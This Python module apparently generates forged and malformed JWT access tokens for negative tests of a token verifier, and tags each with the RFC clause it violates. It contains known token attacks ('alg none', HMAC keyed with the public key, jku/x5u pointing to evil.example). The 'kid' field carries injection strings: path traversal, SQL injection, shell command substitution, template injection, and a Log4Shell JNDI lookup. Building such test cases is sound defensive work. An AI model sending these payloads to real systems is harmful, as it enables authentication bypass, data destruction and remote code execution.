"""Access tokens that must not be taken: each is right but for one thing, and names the clause that this breaks."""

import base64
import hashlib
import hmac
import json
import time
from collections.abc import Callable
from dataclasses import dataclass
from typing import Any

from cryptography.hazmat.primitives import hashes, serialization
from cryptography.hazmat.primitives.asymmetric import ec, ed25519, padding, rsa

ORDER = 2**252 + 27742317777372353535851937790883648493
"""Of the group of Ed25519 (RFC 8032 §5.1)."""


def b64(raw: bytes) -> str:
    """Base64url without padding (RFC 7515 §2)."""
    return base64.urlsafe_b64encode(raw).rstrip(b"=").decode()


@dataclass(frozen=True, slots=True, kw_only=True)
class Forger:
    """Who holds the real key, and so can make tokens that are wrong in one way only."""

    kid: str
    key: ed25519.Ed25519PrivateKey
    claims: dict[str, Any]
    """Of a token that is taken."""
    service: dict[str, Any]
    """Of a service's token that is taken."""

    @classmethod
    def of(cls, kid: str, pem: str, claims: dict[str, Any], service: dict[str, Any]) -> "Forger":
        """With the private key in a PEM."""
        key = serialization.load_pem_private_key(pem.encode(), None)
        assert isinstance(key, ed25519.Ed25519PrivateKey)
        return cls(kid=kid, key=key, claims=claims, service=service)

    @property
    def header(self) -> dict[str, Any]:
        """The header of a token that is taken."""
        return {"typ": "at+jwt", "alg": "Ed25519", "kid": self.kid}

    def public(self) -> bytes:
        """The public key, raw."""
        return self.key.public_key().public_bytes_raw()

    def public_pem(self) -> bytes:
        """The public key as PEM."""
        spki = serialization.PublicFormat.SubjectPublicKeyInfo
        return self.key.public_key().public_bytes(serialization.Encoding.PEM, spki)

    def text(
        self, header: str | bytes, claims: str | bytes, sign: Callable[[bytes], bytes] | None = None, dot: str = "."
    ) -> str:
        """The token of these two JSON texts."""
        parts = [b64(part.encode() if isinstance(part, str) else part) for part in (header, claims)]
        signed = dot.join(parts)
        return f"{signed}{dot}{b64((sign or self.key.sign)(signed.encode()))}"

    def made(
        self, header: dict[str, Any] | None = None, sign: Callable[[bytes], bytes] | None = None, **claims: Any
    ) -> str:
        """The token with other members in header and claims; None leaves one out."""
        return self.text(_json({**self.header, **(header or {})}), _json({**self.claims, **claims}), sign)


def _json(members: dict[str, Any]) -> str:
    return json.dumps({name: value for name, value in members.items() if value is not LEFT_OUT})


LEFT_OUT = object()
Row = tuple[str, str]
"""The clause that it breaks, and the token."""


def bad_tokens(by: Forger, *, id_of_another: str) -> dict[str, Row]:
    """All of them by name."""
    return {
        **_algorithms(by),
        **_keys(by),
        **_signatures(by),
        **_times(by),
        **_claims(by),
        **_kinds(by, id_of_another),
        **_encodings(by),
    }


def _algorithms(by: Forger) -> dict[str, Row]:
    ours = by.made()
    signed = ours.rpartition(".")[0]
    rows: dict[str, Row] = {}
    for name in ("none", "None", "NONE", "nOnE", ""):
        head = b64(_json({**by.header, "alg": name}).encode())
        rows[f"alg {name!r} without signature"] = ("RFC 8725 §3.2", f"{head}.{signed.split('.')[1]}.")
        rows[f"alg {name!r} with signature"] = ("RFC 8725 §3.2", by.made({"alg": name}))
    secrets = {"PEM": by.public_pem(), "raw key": by.public(), "kid": by.kid.encode(), "": b""}
    for digest in ("sha256", "sha384", "sha512"):
        for secret_name, secret in secrets.items():

            def mac(text: bytes, secret: bytes = secret, digest: str = digest) -> bytes:
                return hmac.new(secret, text, digest).digest()

            token = by.made({"alg": f"HS{digest[3:]}"}, mac)
            rows[f"HS{digest[3:]} keyed with the public {secret_name or 'nothing'}"] = ("RFC 8725 §2.1", token)
    pair = rsa.generate_private_key(65537, 2048)
    curve = ec.generate_private_key(ec.SECP256R1())
    rows["RS256 by a key of one's own"] = (
        "RFC 8725 §3.1",
        by.made({"alg": "RS256"}, lambda text: pair.sign(text, padding.PKCS1v15(), hashes.SHA256())),
    )
    rows["ES256 by a key of one's own"] = (
        "RFC 8725 §3.1",
        by.made({"alg": "ES256"}, lambda text: curve.sign(text, ec.ECDSA(hashes.SHA256()))),
    )
    rows["ES256 of zeros"] = ("RFC 8725 §3.1", by.made({"alg": "ES256"}, lambda _: bytes(64)))
    for name in ("EdDSA", "ed25519", "ED25519", "Ed448", "Ed25519 ", "RS256", "PS256", "dir", "A128KW"):
        rows[f"alg {name!r} over our signature"] = ("RFC 8725 §3.1", by.made({"alg": name}))
    rows["alg left out"] = ("RFC 7515 §4.1.1", by.made({"alg": LEFT_OUT}))
    for wrong in (None, 7, ["Ed25519"], {"alg": "Ed25519"}, True):
        rows[f"alg {wrong!r}"] = ("RFC 7515 §4.1.1", by.made({"alg": wrong}))
    return rows


def _keys(by: Forger) -> dict[str, Row]:
    other = ed25519.Ed25519PrivateKey.generate()
    jwk = {"kty": "OKP", "crv": "Ed25519", "x": b64(other.public_key().public_bytes_raw())}
    clause = "RFC 8725 §3.10"
    rows: dict[str, Row] = {}
    for name, value in {
        "jwk": jwk,
        "jku": "https://evil.example/jwks.json",
        "x5u": "https://evil.example/cert.pem",
        "x5c": ["MIIB"],
        "x5t": "AAAA",
        "x5t#S256": "AAAA",
    }.items():
        rows[f"{name} of another key, signed by it"] = (clause, by.made({name: value}, other.sign))
        rows[f"{name} beside our own signature"] = (clause, by.made({name: value}))
        rows[f"{name} alone"] = (clause, by.made({name: value, "kid": LEFT_OUT}, other.sign))
    for kid in (
        *("../../../../dev/null", "/proc/self/environ", "..%2f..%2fauth.db", "file:///dev/null"),
        *("' OR '1'='1", "x' UNION SELECT 'AA' --", '"; DROP TABLE signing_keys; --', "$(id)", "`id`", "| id"),
        *("{{7*7}}", "${jndi:ldap://evil.example/a}", "\x00", "", "*", "k" * 400),
    ):
        token = by.made({"kid": kid}, lambda text: hmac.digest(b"", text, "sha512"))
        rows[f"kid {kid[:24]!r}"] = ("RFC 7515 §4.1.4", token)
    for wrong in (None, 1, ["a"], {"a": 1}, True):
        rows[f"kid {wrong!r}"] = ("RFC 7515 §4.1.4", by.made({"kid": wrong}, other.sign))
    return rows


def _signatures(by: Forger) -> dict[str, Row]:
    good = by.made()
    signed, _, signature = good.rpartition(".")
    head, _, claims = signed.partition(".")
    raw = base64.urlsafe_b64decode(signature + "==")
    malleable = raw[:32] + (int.from_bytes(raw[32:], "little") + ORDER).to_bytes(32, "little")
    other = ed25519.Ed25519PrivateKey.generate()
    richer = b64(_json({**by.claims, "role": "admin"}).encode())
    last = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789-_"
    clause = "RFC 7515 §5.2"
    texts = {
        "stripped": f"{signed}.",
        "left out": signed,
        "cut by one": good[:-1],
        "cut in half": good[:-43],
        "of 63 bytes": f"{signed}.{b64(raw[:63])}",
        "of 65 bytes": f"{signed}.{b64(raw + b'0')}",
        "twice": f"{signed}.{b64(raw * 2)}",
        "of zeros": f"{signed}.{b64(bytes(64))}",
        "of another key": by.made(None, other.sign),
        "of other claims": f"{head}.{richer}.{signature}",
        "with a bit turned": f"{signed}.{b64(bytes([raw[0] ^ 1]) + raw[1:])}",
        "plus the order": f"{signed}.{b64(malleable)}",
        "with bits behind its end": f"{signed}.{signature[:-1]}{last[last.index(signature[-1]) | 15]}",
        "a hash": by.made(None, lambda text: hashlib.sha512(text).digest()),
        "in hex": f"{signed}.{raw.hex()}",
        "of nothing": f"{signed}.{b64(by.key.sign(b''))}",
        "of the claims alone": f"{signed}.{b64(by.key.sign(claims.encode()))}",
    }
    rows = {f"signature {name}": (clause, text) for name, text in texts.items() if text != good}
    return rows | {
        "signature plus the order": ("RFC 8032 §5.1.7", texts["plus the order"]),
        "signature with bits behind its end": ("RFC 4648 §3.5", texts["with bits behind its end"]),
    }


def _times(by: Forger) -> dict[str, Row]:
    now = int(time.time())
    rows: dict[str, Row] = {
        "exp passed": ("RFC 7519 §4.1.4", by.made(exp=now - 3600)),
        "exp long passed": ("RFC 7519 §4.1.4", by.made(exp=0)),
        "nbf to come": ("RFC 7519 §4.1.5", by.made(nbf=now + 3600)),
        "iat to come": ("RFC 7519 §4.1.6", by.made(iat=now + 3600)),
    }
    for name in ("exp", "iat"):
        rows[f"{name} left out"] = ("RFC 9068 §2.2", by.made(**{name: LEFT_OUT}))
    for name in ("exp", "nbf", "iat"):
        for wrong in ("soon", str(now + 60), None, True, [now], {}, -1, 1e300, 10**30):
            rows[f"{name} {wrong!r}"] = ("RFC 7519 §2", by.made(**{name: wrong}))
        for wrong in ("NaN", "Infinity", "-Infinity", "1e999"):
            text = _json({**by.claims, name: "HERE"}).replace('"HERE"', wrong)
            rows[f"{name} {wrong}"] = ("RFC 8259 §6", by.text(_json(by.header), text))
    digits = _json({**by.claims, "exp": "HERE"}).replace('"HERE"', "9" * 4400)
    rows["exp of 4400 digits"] = ("RFC 7519 §2", by.text(_json(by.header), digits))
    return rows


def _claims(by: Forger) -> dict[str, Row]:
    rows: dict[str, Row] = {}
    for name in ("sub", "aud", "iss", "jti", "client_id"):
        rows[f"{name} left out"] = ("RFC 9068 §2.2", by.made(**{name: LEFT_OUT}))
        for wrong in (None, 7, True, {}, [], "", ["a", 1]):
            rows[f"{name} {wrong!r}"] = ("RFC 9068 §2.2", by.made(**{name: wrong}))
    rows |= {
        "aud of another": ("RFC 9068 §4", by.made(aud="elsewhere")),
        "aud in other letters": ("RFC 9068 §4", by.made(aud="PARSHALL")),
        "aud that begins the same": ("RFC 9068 §4", by.made(aud="parshall.evil.example")),
        "aud within another": ("RFC 9068 §4", by.made(aud=[["parshall"]])),
        "aud as a member": ("RFC 9068 §4", by.made(aud={"parshall": 1})),
        "iss of another": ("RFC 9068 §4", by.made(iss="https://evil.example")),
        "iss with a slash more": ("RFC 9068 §4", by.made(iss=f"{by.claims['iss']}/")),
        "iss as a list": ("RFC 9068 §4", by.made(iss=[by.claims["iss"]])),
        "sub as a list": ("RFC 7519 §4.1.2", by.made(sub=[by.claims["sub"]])),
        "an unknown role": ("RFC 8725 §3.3", by.made(role="root")),
        "a role in a list": ("RFC 8725 §3.3", by.made(role=["admin"])),
        "a name that is a number": ("RFC 8725 §3.3", by.made(username=7)),
        "an address that is a list": ("RFC 8725 §3.3", by.made(email=[])),
        "a scope that is a list": ("RFC 9068 §2.2.3", by.made(scope=["chat"])),
    }
    for body in ("[]", "7", '"sub"', "null", "{", "", "\x00", "{}"):
        rows[f"claims {body!r}"] = ("RFC 7519 §7.2", by.text(_json(by.header), body))
    deep = _json({**by.claims, "x": "HERE"}).replace('"HERE"', "[" * 1500 + "]" * 1500)
    rows["claims nested without end"] = ("RFC 8725 §2.4", by.text(_json(by.header), deep))
    return rows


def _kinds(by: Forger, id_of_another: str) -> dict[str, Row]:
    clause = "RFC 8725 §3.11"
    user, service = by.claims, by.service
    types = ("JWT", "jwt", "id_token+jwt", "rt+jwt", "at", "JOSE", "logout+jwt", "at+jwt2", "", None, 7, ["at+jwt"])
    rows = {f"typ {typ!r}": (clause, by.made({"typ": typ})) for typ in types}
    encrypted = [b'{"alg":"dir","enc":"A128GCM"}', b"", b"0" * 12, b"x", b"0" * 16]
    return rows | {
        "typ left out": (clause, by.made({"typ": LEFT_OUT})),
        "an ID token": (clause, by.made({"typ": "JWT"}, type=LEFT_OUT, nonce="n", auth_time=user["iat"])),
        "type refresh": ("RFC 8725 §3.12", by.made(type="refresh")),
        "type left out": ("RFC 8725 §3.12", by.made(type=LEFT_OUT)),
        "a user's claims with a service's role": ("RFC 8725 §3.12", by.made(role="service", scope="accounting:settle")),
        "a service's claims with a user's role": (
            "RFC 8725 §3.12",
            by.text(_json(by.header), _json({**service, "role": "admin"})),
        ),
        "a service for a user": ("RFC 9068 §2.2", by.text(_json(by.header), _json({**service, "sub": id_of_another}))),
        "a user that is its own client": ("RFC 9068 §5", by.made(client_id=user["sub"])),
        "a user without a login": ("RFC 8725 §3.12", by.made(sid=LEFT_OUT)),
        "a JWE": ("RFC 9068 §4", ".".join(b64(part) for part in encrypted)),
        "five parts": ("RFC 7516 §3.1", f"{by.made()}.a.b"),
        "a token in a token": ("RFC 7519 §5.2", by.text(_json({**by.header, "cty": "JWT"}), by.made())),
        "a token that says it holds one": ("RFC 7519 §5.2", by.made({"cty": "JWT"})),
        "a list of tokens": ("RFC 7515 §7.2", _json({"payload": "", "signatures": []})),
    }


def _encodings(by: Forger) -> dict[str, Row]:
    good = by.made()
    head, claims, signature = good.split(".")
    twice = json.dumps(by.claims)[:-1] + ', "role": "admin"}'
    again = json.dumps(by.header)[:-1] + ', "alg": "Ed25519"}'
    plain, utf16 = (json.dumps(by.claims).encode(name) for name in ("utf-8", "utf-16"))
    return {
        "padding": ("RFC 7515 §2", f"{head}.{claims}.{signature}=="),
        "padding in the header": ("RFC 7515 §2", f"{head}=.{claims}.{signature}"),
        "a space in it": ("RFC 7515 §2", f"{head}. {claims}.{signature}"),
        "a tab in it": ("RFC 7515 §2", f"{head}.\t{claims}.{signature}"),
        "the letters of base64": ("RFC 7515 §2", f"{head}.{claims}.{'+/' + signature[2:]}"),
        "a letter of neither": ("RFC 7515 §2", f"{head}.{claims}!.{signature}"),
        "percent signs": ("RFC 7515 §2", good.replace(".", "%2e")),
        "a dot in front": ("RFC 7515 §7.1", f".{good}"),
        "a dot behind": ("RFC 7515 §7.1", f"{good}."),
        "two dots": ("RFC 7515 §7.1", good.replace(".", "..")),
        "one part": ("RFC 7515 §7.1", good.replace(".", "")),
        "no part": ("RFC 7515 §7.1", ".."),
        "quotes around it": ("RFC 6750 §2.1", f'"{good}"'),
        "two tokens": ("RFC 6750 §2.1", f"{good}, {good}"),
        "Bearer twice": ("RFC 6750 §2.1", f"Bearer {good}"),
        "claims twice": ("RFC 7519 §4", by.text(_json(by.header), twice)),
        "header members twice": ("RFC 7515 §4", by.text(again, _json(by.claims))),
        "claims in UTF-16": ("RFC 7519 §7.1", by.text(_json(by.header), utf16)),
        "claims that are no UTF-8": ("RFC 7519 §7.1", by.text(_json(by.header), b"\xff" + plain)),
        "claims behind a mark": ("RFC 8259 §8.1", by.text(_json(by.header), b"\xef\xbb\xbf" + plain)),
        "a header that is a list": ("RFC 7515 §4", by.text("[]", _json(by.claims))),
        "a header that is none": ("RFC 7515 §4", by.text("{", _json(by.claims))),
        "crit of what nobody knows": ("RFC 7515 §4.1.11", by.made({"crit": ["x"], "x": 1})),
        "crit of nothing": ("RFC 7515 §4.1.11", by.made({"crit": []})),
        "crit of what is not there": ("RFC 7515 §4.1.11", by.made({"crit": ["exp"]})),
        "crit that is no list": ("RFC 7515 §4.1.11", by.made({"crit": "b64"})),
        "b64 false": ("RFC 7797 §6", by.made({"b64": False, "crit": ["b64"]})),
        "b64 false and not critical": ("RFC 7797 §6", by.made({"b64": False})),
        "zip": ("RFC 8725 §3.6", by.made({"zip": "DEF"})),
        "eight kilobytes": ("RFC 8725 §2.4", by.made(jti="j" * 8000)),
        "twenty kilobytes of it": ("RFC 8725 §2.4", "e" * 20_000),
        "a word": ("RFC 6750 §2.1", "null"),
        "another": ("RFC 6750 §2.1", "undefined"),
        "an object": ("RFC 6750 §2.1", "[object Object]"),
    }
